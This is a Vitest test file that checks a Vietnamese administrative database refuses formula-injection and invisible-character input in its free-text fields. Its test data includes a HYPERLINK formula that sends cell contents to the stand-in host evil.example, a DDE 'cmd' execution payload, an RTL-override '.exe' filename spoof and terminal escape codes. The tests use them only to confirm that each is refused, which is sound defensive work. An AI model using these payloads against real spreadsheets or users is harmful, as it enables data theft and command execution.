/**
 * Issue 20, item 5: formula and invisible characters beyond ASCII. Each string below got into
 * decision_no, source, notes or closed_year.note before; each is now refused, through the import
 * function and by direct table writes, leaving every writable table byte-identical. The database's
 * character classes are the TypeScript ones (src/lib/domain/free-text.ts), checked here.
 */
import { describe, expect, it } from 'vitest';
import {
  FORMULA_STARTERS,
  INVISIBLE_RANGES,
  WHITESPACE_RANGES,
  firstInvisible,
  isFormulaLike,
} from '../../src/lib/domain/free-text';
import { PROVINCE_EDITOR, asRole, attempt, districtEditor, useClients } from './helpers';
import { META, SAN_THANG, importRow, importRows, refused } from './refused';

const db = useClients();

const ATTACKS: [string, 'formula' | 'invisible'][] = [
  ['＝HYPERLINK("https://evil.example/?d="&B2,"Xem")', 'formula'],
  ['＋1+1', 'formula'],
  ['－2+3', 'formula'],
  ['＠SUM(A1:A9)', 'formula'],
  ['\n=1+1', 'invisible'],
  [' =1+1', 'formula'],
  ['\u00a0=1+1', 'formula'],
  ['\u200b=1+1', 'invisible'],
  ['\ufeff=1+1', 'invisible'],
  ['\u2028=1+1', 'invisible'],
  ['QĐ 12\u202egpj.exe', 'invisible'],
  ["|cmd' /C calc'!A0", 'formula'],
  ['QĐ\u0007 12', 'invisible'],
  ['QĐ\u001b[2J 12', 'invisible'],
];
const MESSAGE = {
  formula: 'không được bắt đầu bằng =, +, -, @ hay |',
  invisible: 'ký tự định dạng không nhìn thấy',
};

describe('item 5: free text refuses formulas in every width and invisible characters', () => {
  it.each(ATTACKS)('a district editor cannot import %j as a decision number (%s)', async (text, kind) => {
    const r = await refused(db.admin, districtEditor('105'), (q) =>
      importRows(q, [importRow({ decision_no: text })], META),
    );
    expect(r.outcome).toMatchObject({
      ok: false,
      code: '23514',
      message: expect.stringContaining(`Dòng 2 (mã ${SAN_THANG}): Số quyết định`),
    });
    expect(r.outcome).toMatchObject({ message: expect.stringContaining(MESSAGE[kind]) });
    expect(r.same).toBe(true);
  });

  it.each(ATTACKS)(
    'direct writes of %j into sources, notes and locked-year notes are refused',
    async (text) => {
      const writes = [
        [`update public.unit_assessment set source = $1 where year = 2020`, [text]],
        [`update public.district_status set decision_no = $1 where year = 2020`, [text]],
        [`update public.indicator_observation set note = $1`, [text]],
        [`update public.statistic_observation set note = $1 where year = 2020`, [text]],
        [`insert into public.closed_year (year, note) values (2023, $1)`, [text]],
      ] as const;
      for (const [sql, params] of writes) {
        const r = await refused(db.admin, PROVINCE_EDITOR, (q) => attempt(q, sql, [...params]));
        expect(r.outcome, sql).toMatchObject({ ok: false, code: '23514' });
        expect(r.same, sql).toBe(true);
      }
    },
  );

  it('a note may break lines (LF only); a decision number may not; the same text further in is fine', async () => {
    const r = await asRole(db.api, PROVINCE_EDITOR, async (q) => ({
      note: await attempt(q, `insert into public.closed_year (year, note) values (2023, $1)`, [
        'Đã quyết toán.\nBiên bản số 3.',
      ]),
      crlf: await attempt(q, `update public.statistic_observation set note = $1 where year = 2020`, [
        'a\r\nb',
      ]),
      decision: await attempt(
        q,
        `update public.unit_assessment set decision_no = $1 where unit_code = $2 and year = 2024`,
        ['QĐ 12\nQĐ 13', SAN_THANG],
      ),
      inside: await attempt(
        q,
        `update public.unit_assessment set decision_no = $1 where unit_code = $2 and year = 2024`,
        ['QĐ 12 = 3-4 @tỉnh | ＝ ＋', SAN_THANG],
      ),
    }));
    expect(r.note).toEqual({ ok: true, rowCount: 1 });
    expect(r.crlf).toMatchObject({ ok: false, message: expect.stringContaining('U+000D') });
    expect(r.decision).toMatchObject({ ok: false, message: expect.stringContaining('U+000A') });
    expect(r.inside).toEqual({ ok: true, rowCount: 1 });
  });

  it('the CHECK constraints hold without the triggers too (the guarantee, whatever writes)', async () => {
    await db.admin.query('begin');
    try {
      await db.admin.query(`set local session_replication_role = replica`); // no triggers
      const q = db.admin.query.bind(db.admin) as Parameters<typeof attempt>[0];
      const r = await attempt(q, `update public.unit_assessment set source = $1 where year = 2020`, ['＝1']);
      expect(r).toMatchObject({
        ok: false,
        code: '23514',
        message: expect.stringContaining('unit_assessment_source_free_text'),
      });
      const n = await attempt(q, `insert into public.closed_year (year, note) values (2023, $1)`, [
        'a\u202eb',
      ]);
      expect(n).toMatchObject({ ok: false, message: expect.stringContaining('closed_year_note_free_text') });
    } finally {
      await db.admin.query('rollback');
    }
  });
});

describe('the database’s character classes are the TypeScript ones', () => {
  const pairs = (a: number[][]) => a.map(([lo, hi]) => [lo, hi]);

  it('lists the same ranges and formula starters', async () => {
    const r = await db.admin.query<{ invisible: number[][]; whitespace: number[][]; starters: string }>(
      `select private.invisible_ranges() as invisible, private.whitespace_ranges() as whitespace,
              private.formula_starters() as starters`,
    );
    expect(pairs(r.rows[0]!.invisible)).toEqual(INVISIBLE_RANGES.map((x) => [...x]));
    expect(pairs(r.rows[0]!.whitespace)).toEqual(WHITESPACE_RANGES.map((x) => [...x]));
    expect(r.rows[0]!.starters).toBe(FORMULA_STARTERS);
  });

  it('judges every range’s edges as the browser does (one query)', async () => {
    const edges = [...INVISIBLE_RANGES, ...WHITESPACE_RANGES]
      .flatMap(([lo, hi]) => [lo - 1, lo, hi, hi + 1])
      .filter((cp) => cp > 0 && cp <= 0x10ffff && (cp < 0xd800 || cp > 0xdfff));
    const texts = [...new Set(edges)].flatMap((cp) => {
      const ch = String.fromCodePoint(cp);
      return [`a${ch}b`, `${ch}=1`, `${ch}${ch}＋1`];
    });
    const r = await db.admin.query<{ t: string; single: boolean; multi: boolean; formula: boolean }>(
      `select t, private.first_invisible(t) is not null as single, private.first_invisible(t, true) is not null as multi,
              private.is_formula_like(t) as formula
       from unnest($1::text[]) with ordinality as x(t, n) order by n`,
      [texts],
    );
    expect(r.rows.map((x) => [x.t, x.single, x.multi, x.formula])).toEqual(
      texts.map((t) => [
        t,
        firstInvisible(t) !== null,
        firstInvisible(t, { multiline: true }) !== null,
        isFormulaLike(t),
      ]),
    );
  });
});
